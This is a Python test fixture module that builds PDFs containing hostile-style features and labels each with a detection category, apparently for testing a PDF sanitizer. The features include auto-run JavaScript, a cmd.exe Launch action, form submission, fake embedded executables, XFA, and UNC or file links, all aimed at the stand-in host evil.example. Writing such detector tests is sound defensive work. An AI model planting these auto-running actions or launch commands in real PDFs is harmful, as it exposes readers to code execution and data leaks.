"""PDF that acts, and an ordinary one."""

from __future__ import annotations

import functools

import pytest
from pdf_documents import annotation, new
from pikepdf import Array, Dictionary, Name

pytestmark = pytest.mark.filterwarnings("ignore::pikepdf.PageCopyWarning")


HOST = "evil.example"


def script(code="app.launchURL('http://evil.example')"):
    return Dictionary(S=Name.JavaScript, JS=code)


def with_root(**keys):
    def change(pdf):
        for key, value in keys.items():
            pdf.Root[f"/{key}"] = value

    return change


def with_link(action):
    return lambda pdf: annotation(pdf, Subtype=Name.Link, A=action)


def with_annotation(**keys):
    return lambda pdf: annotation(pdf, **keys)


def attached(pdf):
    pdf.attachments["evil.exe"] = b"MZ evil.example"


def file_attachment(pdf):
    file = pdf.make_stream(b"MZ evil.example", Type=Name.EmbeddedFile)
    specification = Dictionary(Type=Name.Filespec, F="evil.exe", EF=Dictionary(F=file))
    annotation(pdf, Subtype=Name.FileAttachment, FS=specification)


def associated(pdf):
    file = pdf.make_stream(b"MZ evil.example", Type=Name.EmbeddedFile)
    pdf.Root.AF = Array([Dictionary(Type=Name.Filespec, F="evil.xml", EF=Dictionary(F=file))])


def xfa(pdf):
    pdf.Root.AcroForm = Dictionary(XFA=pdf.make_stream(b"<xdp>evil.example</xdp>"), Fields=[])
    pdf.Root.NeedsRendering = True


def rich_media(pdf):
    content = Dictionary(
        Assets=Dictionary(Names=["a.swf", Dictionary(EF=Dictionary(F=pdf.make_stream(b"FWS evil.example")))])
    )
    annotation(pdf, Subtype=Name.RichMedia, RichMediaContent=content, RichMediaSettings=Dictionary())


def chained(pdf):
    annotation(pdf, Subtype=Name.Link, A=Dictionary(S=Name.GoTo, D=[0, Name.Fit], Next=Array([script(), script()])))


def name_tree(pdf):
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=["a", script()]))


def page_action(pdf):
    pdf.pages[1].obj.AA = Dictionary(O=pdf.make_indirect(script()))


def outline_action(pdf):
    pdf.Root.Outlines.First.A = script()


def external_stream(pdf):
    stream = pdf.make_stream(b" ")
    stream.F = Dictionary(Type=Name.Filespec, FS=Name.URL, F="http://evil.example/x")
    pdf.pages[1].obj.Contents = Array([pdf.pages[1].obj.Contents, stream])


def reference(pdf):
    form = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 1, 1])
    form.Ref = Dictionary(F="http://evil.example/x.pdf", Page=0)
    pdf.pages[0].obj.Resources.XObject = Dictionary(X=form)


def postscript(pdf):
    pdf.pages[0].obj.Resources.XObject = Dictionary(
        X=pdf.make_stream(b"(evil.example) run", Type=Name.XObject, Subtype=Name.PS)
    )


def array_of_actions(pdf):
    annotation(pdf, Subtype=Name.Link, A=Array([script()]))


def hidden_trailer(pdf):
    pdf.trailer.AdditionalStreams = Array([Name("/odt"), pdf.make_stream(b"PK evil.example")])


def hidden_field(pdf):
    kid = pdf.make_indirect(Dictionary(FT=Name.Btn, T="x", AA=Dictionary(K=script())))
    pdf.Root.AcroForm = Dictionary(Fields=[kid])


def confused(pdf):
    """One dictionary as fonts of a page and as an action."""
    both = pdf.make_indirect(script())
    pdf.pages[0].obj.Resources.Font.X = both
    pdf.pages[1].obj.Resources.ExtGState = both
    annotation(pdf, Subtype=Name.Link, A=both)


def disguised(pdf):
    """An action that pretends to be an element of the structure."""
    action = Dictionary(Type=Name.StructElem, S=Name.JavaScript, JS="evil.example", P=Dictionary(), K=0)
    annotation(pdf, Subtype=Name.Link, A=action)


def navigation(pdf):
    pdf.pages[0].obj.PresSteps = Dictionary(NA=script(), PA=script())


SOUND = Dictionary(S=Name.Sound, Sound=Dictionary(F="evil.example"))


THREATS = {
    "open-action": (with_root(OpenAction=script()), "javascript"),
    "open-launch": (with_root(OpenAction=Dictionary(S=Name.Launch, F="evil.example")), "launch"),
    "open-link": (with_root(OpenAction=Dictionary(S=Name.URI, URI="http://evil.example")), "external-relationship"),
    "additional": (with_root(AA=Dictionary(WC=script())), "javascript"),
    "page-additional": (page_action, "javascript"),
    "names": (name_tree, "javascript"),
    "outline": (outline_action, "javascript"),
    "chain": (chained, "javascript"),
    "array": (array_of_actions, "javascript"),
    "field": (hidden_field, "javascript"),
    "navigation": (navigation, "javascript"),
    "confused": (confused, "javascript"),
    "disguised": (disguised, "javascript"),
    "launch": (with_link(Dictionary(S=Name.Launch, Win=Dictionary(F="cmd.exe", P="/c evil.example"))), "launch"),
    "submit": (with_link(Dictionary(S=Name.SubmitForm, F="http://evil.example")), "form"),
    "import": (with_link(Dictionary(S=Name.ImportData, F="evil.example")), "form"),
    "remote": (with_link(Dictionary(S=Name.GoToR, F=r"\\evil.example\x", D=[0, Name.Fit])), "external-relationship"),
    "embedded": (with_link(Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N="evil.example"))), "embedded-file"),
    "thread": (with_link(Dictionary(S=Name.Thread, F="evil.example")), "hyperlink"),
    "sound-action": (with_link(SOUND), "rich-media"),
    "unknown-action": (with_link(Dictionary(Type=Name.Action, S=Name("/Evil"), X="evil.example")), "action"),
    "named": (with_link(Dictionary(S=Name.Named, N=Name("/Print"), X="evil.example")), "action"),
    "file-link": (with_link(Dictionary(S=Name.URI, URI="file://evil.example/x")), "hyperlink"),
    "script-link": (with_link(Dictionary(S=Name.URI, URI="javascript:evil.example")), "hyperlink"),
    "unc-link": (with_link(Dictionary(S=Name.URI, URI=r"\\evil.example\x")), "hyperlink"),
    "attachment": (attached, "embedded-file"),
    "file-attachment": (file_attachment, "embedded-file"),
    "associated": (associated, "embedded-file"),
    "portfolio": (with_root(Collection=Dictionary(D="evil.example")), "embedded-file"),
    "trailer": (hidden_trailer, "embedded-file"),
    "xfa": (xfa, "xfa"),
    "rich-media": (rich_media, "rich-media"),
    "movie": (with_annotation(Subtype=Name.Movie, Movie=Dictionary(F="evil.example")), "rich-media"),
    "screen": (with_annotation(Subtype=Name.Screen, A=Dictionary(S=Name.Rendition, OP=0, JS="evil.example")), "rich-media"),
    "3d": (with_annotation(Subtype=Name("/3D"), X="evil.example"), "rich-media"),
    "unknown-annotation": (with_annotation(Subtype=Name("/Evil"), X="evil.example"), "unknown-part"),
    "external-stream": (external_stream, "external-relationship"),
    "reference": (reference, "remote-image"),
    "postscript": (postscript, "unknown-part"),
    "base": (with_root(URI=Dictionary(Base="file://evil.example")), "hyperlink"),
    "catalog": (with_root(Evil=Dictionary(X="evil.example")), "unknown-part"),
}  # fmt: skip


@functools.cache
def ordinary():
    return new()
